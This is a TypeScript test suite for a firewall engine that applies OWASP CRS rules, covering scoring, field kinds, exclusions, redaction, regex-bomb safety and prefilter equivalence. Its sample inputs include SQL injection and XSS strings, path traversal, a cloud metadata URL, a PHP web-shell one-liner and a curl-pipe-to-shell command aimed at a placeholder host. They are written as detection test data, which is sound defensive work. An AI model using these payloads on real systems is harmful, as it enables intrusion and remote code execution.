// Anomaly scoring, field kinds, exclusions, excerpts and linear-time matching on the generated CRS rules.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { excerptOf, type FieldKind, KIND_CATEGORIES } from './engine.ts';
import { WafEngine } from './engine.ts';
import { crsEngine, crsRuleSet, loadLibinjection, wafRequestOf } from './index.ts';

const engine = crsEngine(loadLibinjection());
const req = (query: Record<string, string>, body?: unknown) =>
  wafRequestOf({ method: body ? 'POST' : 'GET', url: '/x', headers: { host: 'localhost', ...(body ? { 'content-type': 'application/json' } : {}) }, query, ...(body ? { body } : {}) });
const SQLI = "1' UNION SELECT password FROM users WHERE '1'='1";

test('scores add up per rule and per category with CRS severities (critical 5)', () => {
  const v = engine.evaluate(req({ q: SQLI }), { paranoiaLevel: 1 });
  assert.ok(v.matches.length >= 1);
  assert.equal(v.score, v.matches.reduce((s, m) => s + m.score, 0));
  assert.equal(v.categories.sql_injection_score, v.matches.filter((m) => m.scoreVariable === 'sql_injection_score').reduce((s, m) => s + m.score, 0));
  assert.ok(v.matches.every((m) => m.score === 5 || m.score === 4 || m.score === 3 || m.score === 2));
});

test('libinjection runs as WASM: rule 942100 fires on an SQLi and 941100 on an XSS', () => {
  assert.ok(engine.evaluate(req({ q: "1' OR '1'='1" }), { paranoiaLevel: 1 }).matches.some((m) => m.ruleId === 942100));
  assert.ok(engine.evaluate(req({ q: '<img src=x onerror=alert(1)>' }), { paranoiaLevel: 1 }).matches.some((m) => m.ruleId === 941100));
});

test('a higher paranoia level runs more rules and never scores less', () => {
  const v = "it's a 'quoted' -- note; with (parens) and = signs";
  const scores = [1, 2, 3, 4].map((pl) => engine.evaluate(req({ q: v }), { paranoiaLevel: pl }).score);
  for (let i = 1; i < scores.length; i++) assert.ok((scores[i] as number) >= (scores[i - 1] as number), `${scores}`);
});

test('a password, secret, enum or opaque field is not inspected; markdown only for XSS', () => {
  for (const kind of ['password', 'secret', 'enum', 'opaque', 'code'] as const) {
    const v = engine.evaluate(req({}, { pw: SQLI }), { paranoiaLevel: 4, fieldKinds: new Map([['json.pw', kind]]) });
    assert.equal(v.matches.filter((m) => m.field === 'ARGS:json.pw').length, 0, kind);
  }
  const md = engine.evaluate(req({}, { notes: SQLI }), { paranoiaLevel: 1, fieldKinds: new Map([['json.notes', 'markdown']]) });
  assert.equal(md.score, 0);
  const xss = engine.evaluate(req({}, { notes: '<script>alert(1)</script>' }), { paranoiaLevel: 1, fieldKinds: new Map([['json.notes', 'markdown']]) });
  assert.ok(xss.matches.some((m) => m.category === '941'));
});

test('stored text is read for scripts and injection syntax, not for SQL words, commands or file names', () => {
  const kinds = new Map([['json.t', 'stored-text' as const]]);
  const at = (t: string, pl: number) => engine.evaluate(req({}, { t }), { paranoiaLevel: pl, fieldKinds: kinds });
  // Each of these fires some rule on untyped text at PL2 (SQL keywords, a shell command, a path).
  for (const benign of ['12 Select Avenue', '1 Union Square', 'Order by date, then by priority (high first), and group by owner.', 'cat /etc/passwd; then ls', '../../etc/hosts']) {
    assert.ok(engine.evaluate(req({}, { t: benign }), { paranoiaLevel: 2 }).score >= 5, `untyped: ${benign}`);
    assert.equal(at(benign, 2).score, 0, benign);
  }
  const sqli = at("x' union select password from users --", 1);
  assert.deepEqual(sqli.matches.map((m) => m.ruleId), [942100]);
  assert.ok(at('<script>alert(document.cookie)</script>', 1).matches.some((m) => m.category === '941'));
});

test('a url field is read for script URLs and traversal, not as a server-side request or a remote inclusion', () => {
  const kinds = new Map([['json.site', 'url' as const]]);
  const at = (site: string, pl: number) => engine.evaluate(req({}, { site }), { paranoiaLevel: pl, fieldKinds: kinds });
  for (const site of ['http://localhost:8080/health', 'https://www.acme.test/about?lang=en']) {
    assert.ok(engine.evaluate(req({}, { site }), { paranoiaLevel: 2 }).score >= 5, `untyped: ${site}`);
    assert.equal(at(site, 4).score, 0, site);
  }
  assert.ok(at('javascript:alert(document.cookie)', 1).score >= 5);
});

test('an exclusion removes one rule from one field only', () => {
  const v = engine.evaluate(req({ a: SQLI, b: SQLI }), { paranoiaLevel: 1 });
  const ids = [...new Set(v.matches.map((m) => m.ruleId))];
  const excluded = engine.evaluate(req({ a: SQLI }), { paranoiaLevel: 1, exclusions: ids.map((ruleId) => ({ ruleId, field: 'ARGS:a' })) });
  assert.equal(excluded.score, 0);
  const other = engine.evaluate(req({ b: SQLI }), { paranoiaLevel: 1, exclusions: ids.map((ruleId) => ({ ruleId, field: 'ARGS:a' })) });
  assert.ok(other.score >= 5);
});

test('an excerpt is bounded, never the whole value, and redacts token-like and digit runs', () => {
  assert.equal(excerptOf('short', 'short'), 'sh');
  assert.ok(excerptOf('x'.repeat(500), 'x'.repeat(500)).length <= 40);
  const token = 'A1b2C3d4E5f6G7h8I9j0K';
  const ex = excerptOf(`token=${token.repeat(2)} and more text here ok`, `token=${token}`);
  assert.ok(!ex.includes(token) && ex.includes('[redacted]'), ex);
  assert.equal(excerptOf('card 4111 1111 1111 1111 please charge it now', 'card 4111 1111 1111 1111'), 'card [digits]');
  const v = engine.evaluate(req({ q: SQLI }), { paranoiaLevel: 4 });
  for (const m of v.matches) assert.ok(m.excerpt.length < SQLI.length && !m.excerpt.includes(SQLI));
});

test('a regex bomb is matched by re2, which takes no backtracking construct, so the input cannot blow up', () => {
  // Structural, not a timing: the engine only runs patterns through re2 (linear in the input);
  // a pattern needing backtracking (a backreference) is refused when the engine is built.
  const rule = (argument: string) => ({
    format: 1 as const,
    source: 't',
    skipped: [],
    rules: [{ id: 1, category: '942', pl: 1, severity: 'CRITICAL', score: 5, scoreVariable: 'sql_injection_score', message: '', tags: [], links: [{ targets: [{ collection: 'ARGS', exclude: [] }], operator: 'rx', argument, negated: false, transforms: [], multiMatch: false }] }],
  });
  assert.throws(() => new WafEngine(rule('(a+)+\\1')));
  // The classic catastrophic pattern and input: a backtracking engine takes exponential time here.
  const bomb = new WafEngine(rule('^(a+)+$'));
  const v = bomb.evaluate(req({ q: `${'a'.repeat(100_000)}!` }), { paranoiaLevel: 1 });
  assert.equal(v.score, 0);
  // And the whole CRS set on a large hostile input answers (bounded by the body limit in the server).
  const big = engine.evaluate(req({ q: `${"'".repeat(20_000)}${'(('.repeat(20_000)}` }), { paranoiaLevel: 4 });
  assert.ok(big.score >= 0);
});

// The prefilter (one RE2.Set pass over the joined transformed values, and its cache of short
// values) may only skip work: every verdict must equal the one of the engine that runs every rule.
const reference = new WafEngine(crsRuleSet(), loadLibinjection(), { prefilter: false });
const KINDS = Object.keys(KIND_CATEGORIES) as FieldKind[];
const SAMPLES: Array<Record<string, string>> = [
  { q: SQLI },
  { q: "1' OR '1'='1" },
  { q: '<img src=x onerror=alert(1)>' },
  { q: '<script>alert(document.cookie)</script>' },
  { file: '../../../../etc/passwd' },
  { url: 'http://169.254.169.254/latest/meta-data/' },
  { cmd: ';cat /etc/passwd' },
  { cmd: '$(curl http://x.example/sh|sh)' },
  { php: '<?php system($_GET["c"]); ?>' },
  { java: 'java.lang.Runtime.getRuntime().exec("id")' },
  { q: "admin'--" },
  { q: '1 AND 1=1' },
  { q: 'sort' },
  { q: 'name' },
  { q: 'Exec summary: the union agreed to select a new chair; see https://example.org/a?b=c' },
  { q: 'WW91IGFyZSBhIGJhc2U2NCBzdHJpbmc=' },
  { q: '%3Cscript%3Ealert(1)%3C%2Fscript%3E' },
  { q: 'SELECT * FROM users WHERE id = 1 --' },
  { a: 'x', b: "'", c: '"', d: '--' },
];

test('the prefilter never changes a verdict: same matches as evaluating every rule, at every paranoia level', () => {
  for (const pl of [1, 2, 3, 4]) {
    // Twice: the second pass answers short values from the cache.
    for (let round = 0; round < 2; round++) {
      for (const s of SAMPLES) {
        for (const r of [req(s), req({}, s), wafRequestOf({ method: 'GET', url: `/x/${encodeURIComponent(Object.values(s)[0] ?? '')}`, headers: { host: 'localhost', 'user-agent': Object.values(s)[0] ?? '', referer: `http://localhost/${Object.values(s)[0] ?? ''}` } })]) {
          const a = engine.evaluate(r, { paranoiaLevel: pl });
          const b = reference.evaluate(r, { paranoiaLevel: pl });
          assert.deepEqual(a, b, `PL${pl} ${JSON.stringify(s)}`);
          // With field kinds (the prefilter skips the fields no rule inspects): the same again.
          for (const kind of KINDS) {
            const opts = { paranoiaLevel: pl, fieldKinds: new Map(Object.keys(s).flatMap((k) => [[k, kind] as const, [`json.${k}`, kind] as const])) };
            assert.deepEqual(engine.evaluate(r, opts), reference.evaluate(r, opts), `PL${pl} ${kind} ${JSON.stringify(s)}`);
          }
        }
      }
    }
  }
});

test('a pattern anchored at the end of a value still matches when the prefilter joins values', () => {
  const one = (argument: string) => ({
    format: 1 as const,
    source: 't',
    skipped: [],
    rules: [{ id: 7, category: '942', pl: 1, severity: 'CRITICAL', score: 5, scoreVariable: 'sql_injection_score', message: '', tags: [], links: [{ targets: [{ collection: 'ARGS', exclude: [] }], operator: 'rx', argument, negated: false, transforms: [], multiMatch: false }] }],
  });
  for (const pattern of ['^admin$', 'min\\z', '\\Aadm', 'x$|^admin$', 'n\\b', '[$]?admin$']) {
    const e = new WafEngine(one(pattern));
    for (const q of [{ a: 'admin', b: 'other' }, { b: 'other', a: 'admin' }]) assert.equal(e.evaluate(req(q), { paranoiaLevel: 1 }).score, 5, pattern);
    assert.equal(e.evaluate(req({ a: 'admins' }), { paranoiaLevel: 1 }).score, pattern === '\\Aadm' ? 5 : 0, pattern);
  }
});

test('a word a command list needs a delimiter after is not taken to end with one when values are joined', () => {
  // 932235 lists `sort` followed by a delimiter: `sort` alone as a value is benign.
  assert.equal(engine.evaluate(req({ sort: 'sort', q: 'name' }), { paranoiaLevel: 1 }).score, 0);
});
